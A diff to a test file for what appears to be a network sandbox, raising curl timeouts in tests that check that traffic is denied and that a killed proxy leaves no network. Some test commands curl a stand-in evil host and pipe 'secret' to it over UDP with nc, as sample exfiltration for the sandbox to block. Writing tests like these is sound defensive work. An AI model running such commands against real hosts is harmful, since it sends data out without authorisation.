@@ -29,12 +29,12 @@ describe('exit status', () => {
     expect((await lab.run(argv)).status).toBe(status);
   });
 
-  const denied = ['sh', '-c', `curl -s -m 5 http://${WORLD.evil}/; true`];
+  const denied = ['sh', '-c', `curl -s -m 60 http://${WORLD.evil}/; true`];
   test('3 with --fail-on-deny when the command succeeded but something was denied', async () => {
     expect((await lab.run(denied, { args: ['--fail-on-deny'] })).status).toBe(3);
     expect((await lab.run(denied)).status).toBe(0);
     expect((await lab.run(['true'], { args: ['--fail-on-deny'] })).status).toBe(0);
-    expect((await lab.run(['sh', '-c', `curl -s -m 5 http://${WORLD.evil}/; exit 9`], { args: ['--fail-on-deny'] })).status).toBe(9);
+    expect((await lab.run(['sh', '-c', `curl -s -m 60 http://${WORLD.evil}/; exit 9`], { args: ['--fail-on-deny'] })).status).toBe(9);
   });
 });
 
@@ -66,7 +66,7 @@ test('a killed proxy means no network, never an open one, and the run says so', 
     [
       'sh',
       '-c',
-      `echo started; read x; curl -sS -m 5 https://ok.test/; curl -sS -m 5 http://${WORLD.evil}/; echo secret | nc -u -w1 ${WORLD.evil} 9999; echo done`,
+      `echo started; read x; curl -sS -m 60 https://ok.test/; curl -sS -m 60 http://${WORLD.evil}/; echo secret | nc -u -w1 ${WORLD.evil} 9999; echo done`,
     ],
     { policy: 'ok.test' },
   );
@@ -108,7 +108,7 @@ test('a killed guard leaves the command without network, and clean removes every
 });
 
 test('clean leaves a run that goes on alone', async () => {
-  const child = lab.spawn(['sh', '-c', 'echo started; read x; curl -sS -m 5 https://ok.test/'], { policy: 'ok.test' });
+  const child = lab.spawn(['sh', '-c', 'echo started; read x; curl -sS -m 60 https://ok.test/'], { policy: 'ok.test' });
   const output = await until(child, 'started');
   const cleaned = spawnSync(CLI, ['clean', '--json'], { encoding: 'utf8' });
   expect(JSON.parse(cleaned.stdout)).toMatchObject({
@@ -122,7 +122,7 @@ test('clean leaves a run that goes on alone', async () => {
 });
 
 test('several runs at a time do not disturb each other', async () => {
-  const argv = ['sh', '-c', 'curl -sS -m 10 https://ok.test/ && curl -sS -m 10 https://other.test/'];
+  const argv = ['sh', '-c', 'curl -sS -m 60 https://ok.test/ && curl -sS -m 60 https://other.test/'];
   const [ok, other, both] = await Promise.all([
     lab.run(argv, { policy: 'ok.test' }),
     lab.run(argv, { policy: 'other.test' }),
